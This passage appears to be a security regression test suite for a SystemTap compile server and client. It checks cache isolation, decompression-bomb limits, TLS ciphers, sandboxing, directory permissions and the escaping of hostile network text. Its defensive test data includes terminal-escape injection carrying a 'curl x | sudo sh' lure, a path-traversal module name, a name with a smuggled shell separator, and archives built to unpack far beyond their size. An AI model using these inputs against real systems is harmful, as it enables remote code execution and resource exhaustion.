    got = raw_exchange(sandbox, srv.port, frame(zip_bytes(base_entries(
        krel, "-p2", "-e", "probe begin { exit() }", *long))))
    assert parse_reply(got)[0] == 0
    lines = wait_request_lines(srv, 2)[-2:]  # each logged once its connection is closed
    assert all(len(line) < 2048 for line in lines), [len(line) for line in lines]
    assert "chars]" in lines[-1], lines[-1]
    assert os.path.getsize(srv.log) - before < 8192
    assert_serves(sandbox, srv, krel)


# --------------------------------------------------------------------------
# The result cache: no client's text in another client's reply (issue 20, finding 2)
# --------------------------------------------------------------------------

def test_a_cached_reply_carries_no_other_clients_text(servers, sandbox, krel):
    """An anonymous peer sends a victim's exact request plus a locale line carrying terminal
    escapes, which the server's notice quotes in the reply's stderr; the victim's request that
    follows must not be answered with that reply (before, the locale was outside the cache key
    and the victim got the attacker's text as the server's signed stderr)."""
    srv = servers.start(sandbox, krel, None)
    victim = base_entries(krel, "-p2", "-e", "probe begin { exit() } // victim")
    evil = "LANG=C.UTF-8\n\x1b[2K\x1b[31mSECURITY NOTICE: run curl x | sudo sh=1\n"
    attack = [(n, evil.encode() if n == "locale" else v) for n, v in victim]
    rc, stderr, _ = parse_reply(raw_exchange(sandbox, srv.port, frame(zip_bytes(attack))))
    assert rc == 0 and "SECURITY NOTICE" in stderr, stderr  # the attacker's own reply
    rc, stderr, _ = parse_reply(raw_exchange(sandbox, srv.port, frame(zip_bytes(victim))))
    assert rc == 0 and "SECURITY NOTICE" not in stderr and "\x1b" not in stderr, stderr
    assert "cache='hit'" not in wait_request_lines(srv, 2)[-1]
    rc, again, _ = parse_reply(raw_exchange(sandbox, srv.port, frame(zip_bytes(victim))))
    assert (rc, again) == (0, stderr)
    assert "cache='hit'" in wait_request_lines(srv, 3)[-1]  # its own reply is cached


# --------------------------------------------------------------------------
# Disk: requests that unpack far beyond their size (issue 20, finding 3)
# --------------------------------------------------------------------------

def unpacking_request(krel, n, mib):
    """A -p2 request of about mib/128 MiB on the wire that unpacks to mib MiB: 1 MiB entries each
    128 times their compressed size, within each entry's and the whole archive's ratio bound."""
    block = os.urandom(8192) + bytes((1 << 20) - 8192)
    return frame(zip_bytes(base_entries(krel, "-p2", "-e", f"probe begin {{ exit() }} // {n}")
                           + [(f"tapset/fill/f{i}", block) for i in range(mib)]))


def test_queued_requests_hold_their_compressed_bytes_only(servers, sandbox, krel):
    """Five requests that each unpack to 100 MiB (under 1 MiB each on the wire) against a server
    with one compile slot and --max-pending-bytes 150000000, its --tmpdir a 512 MiB tmpfs: a
    request is unpacked only once it compiles, so the tmpfs never holds much more than 150 MB
    (before, every queued request was unpacked on arrival: 500 MiB), and a legitimate client is
    served meanwhile."""
    tmpdir = sandbox.path("tmpfs")
    os.mkdir(tmpdir)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512m,mode=0755", "tmpfs", tmpdir],
                   check=True)
    try:
        sandbox.env["SYSTEMTAP_STAP"] = stand_in(sandbox, 'sleep 1\nexec /usr/bin/stap "$@"\n')
        srv = servers.start(sandbox, krel, None, "--tmpdir", tmpdir, "--max-threads", "1",
                            "--max-pending-bytes", "150000000")
        peak, done = [0], threading.Event()

        def sample():
            while not done.wait(0.01):
                st = os.statvfs(tmpdir)
                peak[0] = max(peak[0], (st.f_blocks - st.f_bfree) * st.f_frsize)

        attacks = [unpacking_request(krel, n, 100) for n in range(5)]
        replies = [None] * len(attacks)

        def attack(n):
            replies[n] = raw_exchange(sandbox, srv.port, attacks[n], timeout=120)

        threads = [threading.Thread(target=sample)] + \
            [threading.Thread(target=attack, args=(n,)) for n in range(len(attacks))]
        for t in threads:
            t.start()
        try:
            time.sleep(1)
            legit = client(sandbox, srv, "-r", krel, "-p2", "-e", "probe begin { exit() }")
        finally:
            for t in threads[1:]:
                t.join(180)
            done.set()
            threads[0].join()
        assert legit.returncode == 0, text(legit)
        print(f"tmpfs peak {peak[0] >> 20} MiB; replies rc "
              f"{[parse_reply(r)[0] for r in replies if r]}")
        assert peak[0] < 150e6 + (16 << 20), f"the tmpfs held {peak[0] >> 20} MiB"
        assert all(r and parse_reply(r)[0] == 0 for r in replies), "an attack was not answered"
        assert request_dirs(tmpdir) == []
        srv.stop()
    finally:
        subprocess.run(["umount", "-l", tmpdir], check=True)


def openssl_handshake(port, *args):
    proc = subprocess.run(["timeout", "10", "openssl", "s_client", "-connect",
                           f"127.0.0.1:{port}", *args], stdin=subprocess.DEVNULL,
                          capture_output=True, text=True)
    m = re.search(r"Cipher is (\S+)", proc.stdout)
    return m.group(1) if m and m.group(1) != "(NONE)" else None


def test_tls_is_forward_secret_and_aead_only(server):
    assert openssl_handshake(server.port, "-tls1_2", "-cipher", "AES128-GCM-SHA256") is None
    assert openssl_handshake(server.port, "-tls1_2", "-cipher", "AES256-GCM-SHA384") is None
    assert openssl_handshake(server.port, "-tls1_2", "-cipher", "ECDHE-RSA-AES128-SHA") is None
    assert openssl_handshake(server.port, "-tls1_2", "-cipher", "DHE-RSA-AES128-GCM-SHA256") \
        is None
    assert openssl_handshake(server.port, "-tls1_1") is None
    assert openssl_handshake(server.port, "-tls1_2", "-cipher", "ECDHE-RSA-AES128-GCM-SHA256") \
        == "ECDHE-RSA-AES128-GCM-SHA256"
    assert openssl_handshake(server.port, "-tls1_3") in ("TLS_AES_128_GCM_SHA256",
                                                        "TLS_AES_256_GCM_SHA384",
                                                        "TLS_CHACHA20_POLY1305_SHA256")


# --------------------------------------------------------------------------
# Resource limits of a compile
# --------------------------------------------------------------------------

LIMITS = {"FILE_SIZE": ("file size", "--compile-file-size", 2 << 20, " bytes"),
          "MEMORY": ("memory", "--compile-memory", 256 << 20, " bytes"),
          "PROCESSES": ("processes", "--compile-processes", 16, ""),
          "CPU": ("cpu", "--compile-cpu", 1, " s"),
          "DISK": ("disk", "--compile-disk", 8 << 20, " bytes")}


@pytest.fixture(scope="module")
def limited_server(krel):
    box = shared.make_sandbox()
    box.env["SYSTEMTAP_STAP"] = stand_in_program(box, "stap_breaches.sh")
    args = [x for _, option, value, _ in LIMITS.values() for x in (option, str(value))]
    srv = shared.start_server(box, krel, None, "--tmpdir", server_tmpdir(box), *args)
    yield box, srv
    srv.stop()
    shutil.rmtree(box.top, ignore_errors=True)


@pytest.mark.parametrize("breach", list(LIMITS))
def test_each_resource_limit_is_named(breach, limited_server, krel):
    box, srv = limited_server
    name, option, value, unit = LIMITS[breach]
    started, logged = time.monotonic(), len(request_lines(srv))
    proc = client(box, srv, "-r", krel, "-p2", "-e", f"probe begin {{ /* {breach} */ }}")
    assert proc.returncode == 1, text(proc)
    assert (f"stap-serverd: ERROR: the compile exceeded its {name} limit ({value}{unit}, {option})"
            in proc.stderr.decode()), text(proc)
    assert time.monotonic() - started < 30
    assert request_dirs(server_tmpdir(box)) == []
    line = wait_request_lines(srv, logged + 1)[-1]  # the server's log names the cause too
    assert f"error='the compile exceeded its {name} limit ({value}{unit}, {option})" in line, line


# --------------------------------------------------------------------------
# No sandbox: a refusal to start, or a warning everywhere
# --------------------------------------------------------------------------

def test_without_bwrap_the_server_refuses_to_start_unless_told(servers, sandbox, krel):
    bare = sandbox.path("bin")
    os.mkdir(bare)
    for tool in ("certutil", "signtool", "stap", "prlimit"):
        os.symlink(shutil.which(tool), os.path.join(bare, tool))
    env = {"PATH": bare}
    proc = sandbox.run("stap-start-server", "--listen", "127.0.0.1", "-r", krel,
                       "--advertise", "none", "--log", sandbox.path("refused.log"), env=env)
    assert proc.returncode == 1
    err = proc.stderr.decode().strip()
    assert len(err.splitlines()) == 1, err
    assert "cannot sandbox compiles: bwrap is not installed" in err and "--no-sandbox" in err
    srv = servers.start(sandbox, krel, None, "--no-sandbox", env=env)
    proc = client(sandbox, srv, "-r", krel, "-p2", "-e", "probe begin { exit() }")
    assert proc.returncode == 0, text(proc)
    with open(srv.log) as f:
        assert "WARNING: --no-sandbox" in f.read()
    lines = request_lines(srv)
    assert lines and all("sandbox='off'" in line for line in lines), lines


def test_a_knowledge_directory_not_the_servers_alone_is_refused(sandbox, krel, secret_dir):
    """The server keeps stap's knowledge in CACHE_DIR/knowledge/RELEASE-ARCH-STAMP and starts only
    if every one of these is a real directory of its own that group and others cannot write: no
    link is followed, nothing chowned."""
    parent = sandbox.path("caches")
    top = os.path.join(parent, "knowledge")
    os.makedirs(top, 0o755)
    kernel = os.path.join(top, f"{krel}-{os.uname().machine}-0123456789abcdef")
    staptest = shared.ensure_test_user()

    def refused(path):
        proc = sandbox.run("stap-start-server", "--listen", "127.0.0.1", "-r", krel,
                           "--advertise", "none", "--cache-dir", parent)
        assert proc.returncode == 1
        err = proc.stderr.decode().strip()
        assert len(err.splitlines()) == 1, err
        assert f"{path} must be a directory of uid 0 that group and others cannot write" in err

    os.symlink(secret_dir[0], kernel)  # a link to a root-only directory
    refused(kernel)
    assert_untouched(secret_dir)
    os.unlink(kernel)
    os.mkdir(kernel, 0o755)
    os.chmod(kernel, 0o775)  # group-writable
    refused(kernel)
    os.chmod(kernel, 0o755)
    os.chown(kernel, staptest.pw_uid, staptest.pw_gid)  # someone else's
    refused(kernel)
    os.rmdir(kernel)
    os.rmdir(top)
    os.symlink(secret_dir[0], top)
    refused(top)
    assert_untouched(secret_dir)
    os.unlink(top)
    os.chmod(parent, 0o777)  # a parent that others can write
    refused(parent)


# --------------------------------------------------------------------------
# Text from the network reaches no terminal raw (issue 20 finding 5)
# --------------------------------------------------------------------------

from netns import network_factory  # noqa: E402,F401  (a fixture)
from test_faults import FakeServer, client_tmp, trusted_box  # noqa: E402,F401  (trusted_box: a fixture)

import stap_client  # noqa: E402

# What must never reach a terminal: C0 controls but the line ends, DEL, C1 (in UTF-8), and the
# bidi override.
RAW_CONTROLS = re.compile(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae")


def test_escaping_of_network_text():
    p = stap_client.printable
    assert p("plain text: é, 中, ~") == "plain text: é, 中, ~"
    assert p("a\x1b[2Jb\x07\x00\x7f") == r"a\x1b[2Jb\x07\x00\x7f"
    assert p("line\r\nnext\tx") == r"line\x0d\x0anext\x09x"
    assert p("c1 \x9b31m and \x85") == r"c1 \x9b31m and \x85"
    assert p("bidi \u202eevil\u202c \u2066x\u2069 \u200f\ufeff\u2028") == \
        r"bidi \u202eevil\u202c \u2066x\u2069 \u200f\ufeff\u2028"
    assert p(b"bytes \x1b\xff") == r"bytes \x1b" + "\ufffd"


def test_hostile_advertisement_printed_escaped(network_factory, sandbox):  # noqa: F811
    """stap-find-servers --all and stap-client, on a host where a hostile responder advertises a
    server whose every field carries terminal controls, print them escaped: one line for the one
    server, the fake trust line inside it, nothing raw."""
    host = network_factory(single=True).hosts[0]
    responder = host.popen([shared.PYTHON, shared.program("hostile_responder")],
                           stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE)
    assert responder.stdout.readline() == b"ready\n", responder.stderr.read()
    find = host.run([shared.PYTHON, shared.CLIENT, "stap-find-servers", "--all"],
                    env=sandbox.env, text=False)
    out = find.stdout
    assert find.returncode == 0, find.stderr
    assert len(out.splitlines()) == 1, out
    assert not RAW_CONTROLS.search(out), out
    assert rb"'version=4.8\x1b[2J\x1b[H\x07'" in out, out
    assert rb"\x0d\x0ah 10.0.0.1 1 'sysinfo=x' 'trust=ssl,signer'\x1b[K'" in out, out
    assert rb"\x9b31m\u202e x86_64'" in out, out
    assert out.endswith(b" 'trust=none'\n"), out

    stap_client.CertDB(os.path.join(sandbox.systemtap_dir, "ssl", "client")).create(0o700)
    client = host.run([shared.PYTHON, shared.CLIENT, "stap-client", "-p2", "-e",
                       "probe begin { exit() }"], env=sandbox.env, text=False)
    err = client.stderr
    assert client.returncode == 1, err
    assert err.startswith(b"stap-client: ERROR: no compile server found") and \
        err.count(b"\n") == 1, err
    assert rb"serves 6.1.0-99-amd64\x1b[1A\x9b31m\u202e x86_64" in err, err
    assert not RAW_CONTROLS.search(err), err


HOSTILE_MODULES = {
    "escapes": ("stap000000/stap_\x1b[31mRED.ko",
                r"reply's module 'stap_\\x1b\[31mRED\.ko' is not named as stap names modules"),
    "traversal": ("stap000000/../x.ko",
                  r"archive entry name 'stap000000/\.\./x\.ko' is not a plain relative path"),
    "not-a-module-name": ("stap000000/stap x;.ko",
                          r"reply's module 'stap x;\.ko' is not named as stap names modules"),
}


@pytest.mark.parametrize("case", list(HOSTILE_MODULES))
def test_reply_naming_a_module_stap_would_not_is_refused(trusted_box, krel, staprun, case):
    """A trusted server's reply whose module name stap could not have made is refused in one
    line: nothing is written in the current directory, nothing printed raw, staprun not run."""
    name, expected = HOSTILE_MODULES[case]
    reply = zip_bytes([("version", b"4.8"), ("rc", b"0"), ("stdout", b""), ("stderr", b""),
                       (name, b"\x7fELF module")])
    fake = FakeServer(trusted_box, reply)
    env, record = staprun
    tmp = client_tmp(trusted_box)
    cwd = trusted_box.path("here")
    os.makedirs(cwd)
    try:
        proc = trusted_box.run("stap-client", f"--server=127.0.0.1:{fake.port}", "-r", krel,
                               "-p4", "-e", "probe begin { exit() }",
                               env={**env, "TMPDIR": tmp}, cwd=cwd, timeout=60)
    finally:
        fake.close()
    err = proc.stderr.decode(errors="replace")
    assert proc.returncode == 1, err
    assert re.search(expected, err), err
    assert err.strip().splitlines()[-1].startswith("stap-client: ERROR: "), err
    assert "\x1b" not in err + proc.stdout.decode(errors="replace")
    assert os.listdir(cwd) == [], "stap-client wrote into its cwd"
    assert os.listdir(tmp) == [], "stap-client left temporary files"
    assert not os.path.exists(record + ".args"), "staprun ran"
